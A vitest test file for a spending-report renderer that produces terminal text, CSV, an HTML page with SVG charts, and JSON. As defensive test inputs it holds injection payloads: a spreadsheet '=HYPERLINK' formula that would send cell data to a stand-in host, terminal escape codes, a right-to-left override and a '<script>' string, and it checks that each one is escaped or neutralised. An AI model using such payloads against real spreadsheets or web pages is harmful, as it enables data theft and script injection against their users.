import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { ledgerEntries } from "../../src/job/ledger.ts";
import type { Result } from "../../src/job/result.ts";
import { linearAxis, logarithmicAxis } from "../../src/report/charts/axis.ts";
import { parseDimension } from "../../src/report/dimension.ts";
import { renderReportCsv } from "../../src/report/render-report-csv.ts";
import { renderReportJson } from "../../src/report/render-report-json.ts";
import { PAGE_DIVISIONS, renderReportPage } from "../../src/report/render-report-page.ts";
import { renderReportText } from "../../src/report/render-report-text.ts";
import { createSpendingReport, type SpendingReport } from "../../src/report/spending-report.ts";
import { answered, failed, streamOf, trailEntry } from "../results/sample-results.ts";
import { SAMPLE_MODELS, sampleSpending } from "./sample-spending.ts";

const NAMES = { title: "Report on batch b", baseline: "openai/gpt-5" };

function reportOn(results: readonly Result[], extras: readonly Result[] = [], by = ["task", "tag:team"]): Promise<SpendingReport> {
  const entries = [
    ...results.flatMap((result) => ledgerEntries(result, false)),
    ...extras.flatMap((result) => ledgerEntries(result, true)),
  ];
  const baseline = { model: SAMPLE_MODELS[2]!.id, costNanoUsd: () => 2_000_000 };
  return createSpendingReport({ read: () => streamOf(results), ledger: () => streamOf(entries) }, ["b"], {
    by: [...PAGE_DIVISIONS, by.flatMap((name) => parseDimension(name) ?? [])],
    baseline,
  });
}

let report: SpendingReport;
let page: string;
let asked: SpendingReport;

beforeAll(async () => {
  const { results, extras } = sampleSpending({
    jobs: 600,
    days: 5,
    startAt: Date.parse("2026-11-02T06:00:00Z"),
    batch: "b",
    task: "classify",
  });
  report = await reportOn(results, extras);
  page = renderReportPage(report, { ...NAMES, subtitle: "November" });
  asked = { ...report, divisions: report.divisions.slice(2) };
});

describe("a report on a terminal", () => {
  it("reads well", async () => {
    const results = [
      answered(0, {
        tags: { team: "x" },
        reroutes: 1,
        trail: [trailEntry({ call: "0", outcome: "unfit" }), trailEntry({ call: "1", costNanoUsd: 50_000_000, latencyMs: 4_000 })],
      }),
      failed(1, { trail: [trailEntry({ call: "2", outcome: "uncertain" }), trailEntry({ call: "3", outcome: "unfit", costNanoUsd: 0 })] }),
    ];
    const small = await reportOn(results, [], ["tag:team"]);
    expect(renderReportText({ ...small, divisions: small.divisions.slice(2) }, { title: "Report on batch b", baseline: "openai/gpt-5" }))
      .toMatchInlineSnapshot(`
        "Report on batch b

          jobs                      2
          answered                  1  50.0 %
          failed                    1  50.0 %
          reroutes                  1
          calls                     4  1 of models without a price, booked at nothing
          tokens in               400
          tokens out               80
          checks passed        33.3 %  1 of 3 answers that came
          latency               4.0 s  p95 4.0 s, p99 4.0 s
          cost                $0.0525  $0.0525 per answered job
          estimated           $0.0012  of it, for 1 call cut off or answered without usage
          openai/gpt-5 alone  $0.0020  $0.0505 dearer

          spent on      cost   share  calls
          answers    $0.0500  95.3 %      1  calls whose answers are the results
          failures   $0.0012   2.4 %      2  calls that led to no answer
          uncertain  $0.0012   2.4 %      1  calls that were cut off, at their estimates

          tag:team  jobs  answered  reroutes  calls  tokens     cost  per answer   wasted  checks    p50    p95    p99     saved
          x            1         1         1      2     240  $0.0512     $0.0512  $0.0012  50.0 %  4.0 s  4.0 s  4.0 s  -$0.0492
          –            1         0         0      2     240  $0.0012           –  $0.0012   0.0 %      –      –      –  -$0.0012

          Assumes that openai/gpt-5 had answered every answered job with its first call, using as many
          tokens of each kind as the call that did answer; no failures, checks or judging on its side, all
          of them on ours."
      `);
  });

  it("shows every group, and no group where there is none", () => {
    const text = renderReportText(asked, NAMES);
    for (const team of ["search", "support", "growth"]) expect(text).toMatch(new RegExp(`classify +${team} `));
    expect(text).not.toMatch(/NaN|undefined|Infinity/);
  });
});

/** What people and programs put into tags. */
const ODD_VALUES = [
  '=HYPERLINK("http://x/?"&A1)',
  "+1+1",
  "-5",
  "",
  "–",
  '""',
  '"–"',
  " x",
  "a\nb\u001b[31mred",
  "\u202Egnp.x",
  "a\ud800",
  'plain, "b"',
];

async function reportOnTags(values: readonly (string | undefined)[]): Promise<SpendingReport> {
  const results = values.map((team, row) =>
    answered(row, { ...(team === undefined ? {} : { tags: { team } }), trail: [trailEntry({ call: String(row) })] }),
  );
  const made = await reportOn(results, [], ["tag:team"]);
  return { ...made, divisions: made.divisions.slice(2) };
}

describe("values from outside", () => {
  it("stand in a text in lines of their own, each unlike the others, and move no cursor", async () => {
    const text = renderReportText(await reportOnTags([...ODD_VALUES, undefined]), { title: "t" });
    expect(text).not.toMatch(/[^\P{Cc}\n]|[\p{Surrogate}\u202E]/u);
    const lines = text
      .slice(text.indexOf("tag:team"))
      .split("\n")
      .slice(1, ODD_VALUES.length + 2);
    const shown = lines.map((line) => line.slice(0, line.search(/ {2,}1 {2,}1 /)).trim());
    expect(new Set(shown).size).toBe(ODD_VALUES.length + 1);
    expect(shown).toEqual(expect.arrayContaining(["–", '"–"', '""', '" x"', '"a\\nb\\u001b[31mred"', '"\\u202egnp.x"', 'plain, "b"']));
  });

  it("are told apart in CSV as well, and none is a formula", async () => {
    const { divisions } = await reportOnTags([...ODD_VALUES, undefined]);
    const cells = (parse(renderReportCsv(divisions[0]!), { columns: true }) as Record<string, string>[]).map((line) => line["tag:team"]!);
    expect(new Set(cells).size).toBe(ODD_VALUES.length + 1);
    expect(cells.filter((cell) => /^[=+@]|^-(?!5$)/.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["", '""', "–", "-5", "'+1+1", "a\nb\u001b[31mred"]));
  });
});

describe("a report as CSV", () => {
  it("has a line for each group, whose numbers add up to the whole", () => {
    const lines = parse(renderReportCsv(asked.divisions[0]!), { columns: true }) as Record<string, string>[];
    expect(lines).toHaveLength(3);
    const sum = (name: string) => lines.reduce((total, line) => total + Number(line[name]), 0);
    const { total } = report;
    expect([sum("jobs"), sum("calls"), sum("costNanoUsd"), sum("failuresNanoUsd"), sum("savedNanoUsd")]).toEqual([
      total.jobs,
      total.calls,
      total.costNanoUsd,
      total.spent.failures.costNanoUsd,
      total.baseline?.savedNanoUsd,
    ]);
    expect(lines[0]).toMatchObject({ task: "classify", "tag:team": expect.any(String) as string });
  });
});

describe("a report as a page", () => {
  it("needs nothing from elsewhere and runs no scripts", () => {
    expect(page).not.toMatch(/<script|<link|<img|src=|@import|url\(|href=/);
    expect(page).not.toMatch(/NaN|undefined|Infinity/);
    expect(page).toContain("prefers-color-scheme: dark");
    expect(page).toContain("@media print");
  });

  it("says in words what its pictures show, each under a name of its own", () => {
    const pictures = [
      ...page.matchAll(
        /<svg [^>]*role="img" aria-labelledby="(\S+) (\S+)">\n<title id="(\S+)">(.+?)<\/title><desc id="(\S+)">(.+?)<\/desc>/g,
      ),
    ];
    expect(pictures.map(([, , , , title]) => title)).toEqual([
      "Spend by day",
      "Where the money went",
      "Spend by model",
      "Cost against latency",
    ]);
    for (const [, title, text, titleId, , textId] of pictures) expect([title, text]).toEqual([titleId, textId]);
    const ids = [...page.matchAll(/ id="(.+?)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it("draws the days to scale: bars as high as what was spent", () => {
    const chart = /<figure id="by-day">([\s\S]*?)<\/figure>/.exec(page)?.[1] ?? "";
    const bars = [...chart.matchAll(/height="([\d.]+)" fill="var\(--s\d\)"><title>(\S+), (\S+): /g)];
    const [byDay] = report.divisions;
    const costs = new Map(byDay!.groups.map(({ values, costNanoUsd }) => [values.join(), costNanoUsd]));
    expect(bars).toHaveLength(byDay!.groups.filter(({ costNanoUsd }) => costNanoUsd > 0).length);
    const scales = bars.map(([, height, day, model]) => ({ height: Number(height), cost: costs.get(`${day},${model}`) ?? Number.NaN }));
    const highest = scales.reduce((a, b) => (a.height > b.height ? a : b));
    for (const { height, cost } of scales) expect(Math.abs(height - (highest.height * cost) / highest.cost)).toBeLessThan(0.2);
  });

  it("writes names from outside as text, not as markup", async () => {
    const evil = `<script>&"` as const;
    const results = [answered(0, { task: evil, model: `x/${evil}`, trail: [trailEntry({ model: `x/${evil}` })], tags: { team: evil } })];
    const bad = renderReportPage(await reportOn(results), { title: evil, subtitle: evil, baseline: evil });
    expect(bad).not.toMatch(/<script/);
    expect(bad).toContain("&lt;script&gt;&amp;&quot;");
  });

  it("is whole without any money, with one model only, and with very many", async () => {
    const free = [answered(0, { trail: [trailEntry({ costNanoUsd: 0 })] })];
    const many = Array.from({ length: 60 }, (_, row) =>
      answered(row, { model: `m/${row}`, trail: [trailEntry({ call: `${row}`, model: `m/${row}`, costNanoUsd: 1 + row ** 3 })] }),
    );
    for (const results of [free, [answered(0)], many]) {
      const drawn = renderReportPage(await reportOn(results), { title: "t", subtitle: "s" });
      expect(drawn).not.toMatch(/NaN|undefined|Infinity/);
      expect(drawn.match(/<figure/g)?.length ?? 0).toBe(results === free ? 0 : results === many ? 4 : 3);
    }
    expect(renderReportPage(await reportOn(many), { title: "t", subtitle: "s" })).toContain("48 others");
  });
});

describe("spend by day", () => {
  it("says which days it draws, where there are more than fit", async () => {
    const onDay = (row: number, model: `${string}/${string}`) =>
      answered(row, { model, trail: [trailEntry({ call: String(row), model, startedAt: Date.UTC(2026, 0, 1 + row) })] });
    const chart = async (days: number) => {
      const results = [onDay(0, "m/first"), ...Array.from({ length: days - 1 }, (_, i) => onDay(i + 1, "m/later"))];
      return (
        /<figure id="by-day">([\s\S]*?)<\/figure>/.exec(renderReportPage(await reportOn(results), { title: "t", subtitle: "" }))?.[1] ?? ""
      );
    };
    const whole = await chart(400);
    expect(whole).toContain("<h2>Spend by day</h2>");
    expect(whole).toContain("from 2026-01-01 to 2027-02-04");
    expect(whole).toContain("m/first");
    const cut = await chart(401);
    expect(cut).toContain("<h2>Spend by day, the last 400 days</h2>");
    expect(cut).toContain("from 2026-01-02 to 2027-02-05");
    expect(cut).not.toContain("m/first");
    expect(cut.match(/<rect [^>]*height="[\d.]+" fill="var\(--s\d\)"><title>/g)).toHaveLength(400);
  });
});

describe("what is gone", () => {
  it("is said on the terminal and on the page", async () => {
    const results = [answered(0), answered(1, { trail: [trailEntry({ call: "1" })] })];
    const gone = await createSpendingReport({ read: () => streamOf(results), ledger: () => streamOf([]) }, ["b"], { by: PAGE_DIVISIONS });
    const words = "2 answers are there whose calls the ledger no longer has";
    expect(renderReportText(gone, { title: "t" })).toContain(words);
    expect(renderReportPage(gone, { title: "t", subtitle: "" })).toContain(words);
    const entries = results.flatMap((result) => ledgerEntries(result, false));
    const kept = await createSpendingReport({ read: () => streamOf([]), ledger: () => streamOf(entries) }, ["b"], { by: PAGE_DIVISIONS });
    expect(renderReportText(kept, { title: "t" })).toMatch(
      /not divided +\$0\.0025 +100\.0 % +2 {2}answered calls of rows that have no result here/,
    );
    expect(renderReportPage(kept, { title: "t", subtitle: "" })).toMatch(/acme\/small: \$0\.0025 not divided/);
    expect(renderReportText(kept, { title: "t" })).toContain("2 answered calls are of rows without a result");
    for (const text of [renderReportText(kept, { title: "t" }), renderReportText(report, NAMES)]) expect(text).not.toContain(words);
  });
});

describe("a saving that can't be told", () => {
  it("is left out on the terminal, in CSV and on the page, with the reason", async () => {
    const results = [answered(0, { trail: [trailEntry({ call: "0", costNanoUsd: 12_300_000_000 })] })];
    const source = { read: () => streamOf([]), ledger: () => streamOf(results.flatMap((result) => ledgerEntries(result, false))) };
    const baseline = { model: SAMPLE_MODELS[2]!.id, costNanoUsd: () => 2_000_000 };
    const made = await createSpendingReport(source, ["b"], { by: [...PAGE_DIVISIONS, [parseDimension("task")!]], baseline });
    const text = renderReportText({ ...made, divisions: made.divisions.slice(2) }, NAMES);
    const drawn = renderReportPage(made, { ...NAMES, subtitle: "" });
    for (const each of [text, drawn]) {
      expect(each).not.toMatch(/dearer|-\$|NaN|undefined/);
      expect(each.replaceAll(/\s+/g, " ")).toContain("What was saved is not shown: rows whose answers were paid have no result here");
    }
    expect(text).toMatch(/^ *classify .* –$/m);
    expect(parse(renderReportCsv(made.divisions[2]!), { columns: true })).toMatchObject([{ baselineNanoUsd: "0", savedNanoUsd: "" }]);
    expect(renderReportText(report, NAMES)).not.toContain("not shown");
  });
});

describe("a report as JSON", () => {
  const head = { batches: ["b"], answersWithoutCall: 0, total: { jobs: 2 }, by: ["task"] };

  it.each([0, 1, 2_000])("is JSON.stringify's, in pieces, with %d groups", (count) => {
    const groups = Array.from({ length: count }, (_, i) => ({ values: [`a "${i}"\n`], ...report.total }));
    const pieces = [...renderReportJson(head, { by: ["task"], groups })];
    const plain = { ...head, groups: groups.map(({ values, ...figures }) => ({ group: { task: values[0] }, ...figures })) };
    expect(pieces.join("")).toBe(`${JSON.stringify(plain, undefined, 2)}\n`);
    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThan(500_000);
  });

  it("has null for a group's missing value, and leaves out what isn't known", () => {
    const groups = [{ values: [null], ...report.total, latencyMs: undefined }];
    const [group] = (JSON.parse([...renderReportJson(head, { by: ["__proto__"], groups })].join("")) as { groups: object[] }).groups;
    expect(Object.entries((group as { group: object }).group)).toEqual([["__proto__", null]]);
    expect(group).not.toHaveProperty("latencyMs");
  });
});

describe("axes", () => {
  it.each([1, 7, 99.5, 4_300_000_000, 0.003])("begin at nothing and end at a round value not far above %d", (highest) => {
    const { at, ticks } = linearAxis(highest);
    expect(ticks[0]).toBe(0);
    expect(at(ticks.at(-1)!)).toBeCloseTo(1);
    expect(at(highest)).toBeLessThanOrEqual(1);
    expect(at(highest)).toBeGreaterThan(0.5);
    expect(ticks.length).toBeLessThanOrEqual(6);
  });

  it.each([[[5]], [[1, 900]], [[3, 4_000_000]], [[0.2, 0.3]]])(
    "that are logarithmic hold %j, and mark some of what lies between",
    (values) => {
      const { at, ticks } = logarithmicAxis(values);
      for (const value of [...values, ...ticks]) {
        expect(at(value)).toBeGreaterThanOrEqual(0);
        expect(at(value)).toBeLessThanOrEqual(1);
      }
      expect(ticks.length).toBeGreaterThan(0);
      expect(ticks.length).toBeLessThan(12);
    },
  );
});
